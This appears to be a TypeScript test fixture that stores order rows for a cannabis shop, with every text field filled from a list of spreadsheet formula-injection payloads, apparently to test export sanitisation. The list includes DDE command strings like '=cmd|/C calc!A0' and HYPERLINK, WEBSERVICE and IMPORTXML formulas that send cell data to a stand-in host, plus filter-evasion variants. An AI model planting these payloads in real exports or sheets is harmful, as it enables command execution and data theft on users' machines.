import { insertOrder } from '#tests/database/rows.ts'
import type { Stand } from './stand.ts'
import { rowsOf, storeOrderVisit, storeVisit } from './store-visit.ts'

/** What a spreadsheet would take for a formula, also one that splits a line elsewhere or trims a cell. */
export const FORMULAS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '=cmd|/C calc!A0',
  '=HYPERLINK("https://elsewhere.example?"&A1,"x")',
  '=WEBSERVICE("https://elsewhere.example")',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\ufeff=1+1',
  '  -1+1',
  'a;=1+1',
  'a,=1+1',
  'a\t=1+1',
  'a\n=1+1',
  'a\r\n@SUM(A1)',
  '"=1+1',
  '";=1+1',
  '",=1+1',
  '""=1+1',
  "'=1+1",
  '=',
  '+',
  '-',
  '@',
  '+49 30 123456',
  '-2+3+cmd|/C calc!A0',
  '=IMPORTXML(CONCAT("https://elsewhere.example",A1),"//a")',
  '%=1+1',
  '|=1+1',
  '\uff1d1+1',
  '\uff0b1+1',
  '\uff0d1+1',
  '\uff201+1',
  'a;\uff1d1+1',
  '\u200b=1+1',
]

const KINDS = ['strain', 'vape', 'concentrate']
const TEXTS = [
  'full_name',
  'full_address',
  'country',
  'telegram',
  'whatsapp',
  'signal',
  'business_name',
  'vat_number',
  'notes',
]

/** The orders, one for each formula. */
export async function storeFormulas(stand: Stand): Promise<string[]> {
  const db = rowsOf(stand)
  const ids: string[] = []
  for (const [at, text] of FORMULAS.entries()) {
    const texts = Object.fromEntries(TEXTS.map((name) => [name, text]))
    const kind = KINDS[at % KINDS.length]
    const order = {
      kind,
      ...texts,
      phone_number: text.slice(0, 50),
      // All that the table demands of an address.
      email: `${text.replaceAll(/[\s@]/g, '')}x@buyer.example`,
      total_quantity: 150,
      total_price: '1500.00',
      price_per_gram: kind === 'strain' ? '10' : '0',
      status: 'pending',
    }
    const item = { strain_name: text, strain_type: text, thc_content: text, product_id: text }
    const id = await insertOrder(db, order, [item])
    ids.push(id)
    await storeVisit(db, text, at)
    await storeOrderVisit(db, text, at, id)
  }
  return ids
}
